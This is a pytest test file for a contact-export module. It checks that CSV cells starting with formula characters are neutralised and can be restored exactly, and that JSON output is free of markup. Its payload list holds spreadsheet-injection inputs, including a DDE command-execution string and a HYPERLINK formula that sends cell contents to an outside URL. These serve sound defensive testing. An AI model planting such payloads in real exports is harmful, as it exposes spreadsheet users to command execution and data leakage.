"""A file for a spreadsheet runs no formula, and gives back exactly what was there."""

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contact.exports import COLUMNS, as_csv, as_json, safe_cell

NOON = datetime(2026, 11, 24, 12, tzinfo=UTC)
FORMULAS = [
    *(
        "=1+1",
        "+1 323 555 0107",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "=cmd|' /C calc'!A0",
        " =1",
        "＝1",
        "'=1",
        "\x00=1",
    ),
    '=HYPERLINK("http://example.org?"&A1,"x")',
]
row = st.fixed_dictionaries(
    {name: st.text(max_size=30) for name in COLUMNS if name != "notes"} | {"notes": st.just([])}
)


def made(**changes) -> dict:
    return {**dict.fromkeys(COLUMNS, ""), "notes": [], **changes}


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def plain(cell: str) -> str:
    """What a person does who wants the words alone."""
    return re.sub(r"([;\t\r\n][\s\"]*)'(?='*[=+\-@＝＋－＠])", r"\1", cell.removeprefix("'"))


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_no_cell_begins_as_a_formula(formula):
    head, line = read(as_csv([made(message=formula, preferred_name=formula)]))
    assert head == list(COLUMNS)
    for cell in (line[head.index("message")], line[head.index("preferred_name")]):
        assert cell.startswith("'")
        assert plain(cell) == formula


@pytest.mark.parametrize("separator", [";", "\t"])
@given(words=st.text(alphabet="a;\t\n\"' =+-@", max_size=12))
def test_nor_does_one_where_a_spreadsheet_parts_cells_by_another_sign(separator, words):
    file = io.StringIO(as_csv([made(message=words)]).removeprefix("\ufeff"), newline="")
    for line in csv.reader(file, delimiter=separator):
        assert not [cell for cell in line if cell.lstrip(' "').startswith(("=", "+", "-", "@"))], line


@pytest.mark.parametrize("words", ["Robin", "(323) 555-0107", "robin@example.org", "a=b", "1 - 2", "", "¿Qué?", "“No”"])
def test_what_is_no_formula_stays_as_it_is(words):
    assert safe_cell(words) == words


@given(st.lists(row, max_size=3))
def test_every_cell_comes_back_exactly(rows):
    lines = read(as_csv(rows))[1:]
    assert [[plain(cell) if cell.startswith("'") else plain(f"'{cell}") for cell in line] for line in lines] == [
        [each[name] if name != "notes" else "" for name in COLUMNS] for each in rows
    ]


@given(st.text(max_size=50))
def test_a_safe_cell_is_never_a_formula_and_can_be_undone(text):
    cell = safe_cell(text)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert (plain(cell) if cell.startswith("'") else plain(f"'{cell}")) == text


def test_json_is_exact_and_holds_no_markup():
    words = "</script><b>&\u2028'=1+1"
    text = as_json([made(message=words, received_at=NOON, notes=[{"at": NOON, "by": "desk", "text": "Called"}])])
    assert not set("<>&\u2028") & set(text)
    (back,) = json.loads(text)
    assert back["message"] == words
    assert back["received_at"] == "2026-11-24T12:00:00+00:00"
    assert back["notes"][0]["text"] == "Called"


def test_moments_notes_and_answers_are_written_as_people_read_them():
    notes = [{"at": NOON, "by": "desk", "text": "Called"}]
    head, line = read(as_csv([made(received_at=NOON, voicemail_ok=True, closed_at=None, notes=notes)]))
    cells = dict(zip(head, line, strict=True))
    assert (cells["voicemail_ok"], cells["closed_at"]) == ("yes", "")
    assert cells["received_at"] == "2026-11-24T12:00:00+00:00"
    assert cells["notes"] == "2026-11-24T12:00:00+00:00 desk: Called"
